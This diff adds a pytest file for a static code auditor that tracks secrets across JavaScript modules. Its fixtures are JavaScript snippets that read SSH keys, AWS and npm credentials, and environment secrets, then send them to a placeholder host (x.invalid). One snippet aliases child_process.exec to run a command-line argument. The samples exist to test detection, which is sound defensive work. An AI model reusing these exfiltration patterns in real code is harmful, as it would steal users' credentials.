@@ -1,0 +1,74 @@
+"""What one JavaScript module of a tool reads and another one sends or runs."""
+
+from __future__ import annotations
+
+import pytest
+from support.code import audit_code
+
+READERS = {
+    "CommonJS": {
+        "lib.js": "const fs = require('fs');\nfunction load() { return fs.readFileSync('/root/.ssh/id_rsa'); }\n"
+        "module.exports = { load };\n",
+        "main.js": "const { load } = require('./lib');\nfetch('http://x.invalid', { method: 'POST', body: load() });\n",
+    },
+    "ES modules under other endings": {
+        "src/lib.ts": "import fs from 'fs';\nexport const load = () => fs.readFileSync('/root/.aws/credentials');\n",
+        "main.ts": "import { load as l } from './src/lib.js';\nawait fetch('http://x.invalid', { body: l() });\n",
+    },
+    "a constant": {
+        "lib.js": "exports.key = process.env.STRIPE_SECRET_KEY;\n",
+        "main.js": "const lib = require('./lib.js');\nrequire('https').request('http://x.invalid').write(lib.key);\n",
+    },
+    "an exported object of a class": {
+        "lib.js": "class Store { get() { return require('fs').readFileSync('/root/.netrc'); } }\n"
+        "module.exports = new Store();\n",
+        "main.js": "const store = require('./lib');\nfetch('http://x.invalid', { body: store.get() });\n",
+    },
+    "a sender elsewhere": {
+        "net.js": "const https = require('https');\n"
+        "module.exports.send = function (d) { const r = https.request('http://x.invalid'); r.end(d); };\n",
+        "main.js": "const { send } = require('./net');\nsend(require('fs').readFileSync('/root/.ssh/id_rsa'));\n",
+    },
+    "reader and sender elsewhere": {
+        "a.js": "exports.get = () => require('fs').readFileSync('/root/.npmrc');\n",
+        "b.js": "exports.put = (d) => fetch('http://x.invalid', { body: d });\n",
+        "main.js": "const a = require('./a'), b = require('./b');\nb.put(a.get());\n",
+    },
+    "modules that import each other": {
+        "a.js": "const b = require('./b');\nexports.x = () => b.y();\nexports.z = process.env.A_TOKEN;\n",
+        "b.js": "const a = require('./a');\nexports.y = () => a.x() + a.z;\n",
+        "main.js": "const b = require('./b');\nfetch('http://x.invalid', { body: b.y() });\n",
+    },
+}
+
+
+@pytest.mark.parametrize("files", READERS.values(), ids=READERS)
+def test_a_secret_is_followed_from_one_file_into_the_connection_of_another(files: dict[str, str]) -> None:
+    sent = [item for item in audit_code(files).findings if item.rule == "code-credential-sent"]
+    assert [(item.location.path.partition(".")[0], item.location.line) for item in sent] == [("main", 2)]
+
+
+def test_the_whole_environment_is_followed_through_a_file_that_only_forwards() -> None:
+    files = {
+        "net.js": "export function post(u, d) { return fetch(u, { method: 'POST', body: d }); }\n",
+        "mid.js": "export { post as deliver } from './net.js';\n",
+        "main.js": "import * as m from './mid.js';\nm.deliver('http://x.invalid', JSON.stringify(process.env));\n",
+    }
+    assert ("code-environment-sent", "main.js") in {(f.rule, f.location.path) for f in audit_code(files).findings}
+
+
+def test_a_function_of_the_platform_is_followed_under_the_name_another_file_gives_it() -> None:
+    files = {
+        "lib.js": "module.exports = { run: require('child_process').exec };\n",
+        "main.js": "const { run } = require('./lib');\nrun(process.argv[2]);\n",
+    }
+    assert ("javascript-shell-command", "main.js") in {(f.rule, f.location.path) for f in audit_code(files).findings}
+
+
+def test_files_that_share_nothing_secret_are_not_mixed_up() -> None:
+    files = {
+        "lib.js": "exports.key = process.env.A_TOKEN;\nexports.name = 'x';\nexports.keep = (d) => d.length;\n",
+        "main.js": "const lib = require('./lib');\nfetch('http://x.invalid', { body: lib.name });\n"
+        "lib.keep(lib.key);\n",
+    }
+    assert not [item for item in audit_code(files).findings if item.rule == "code-credential-sent"]
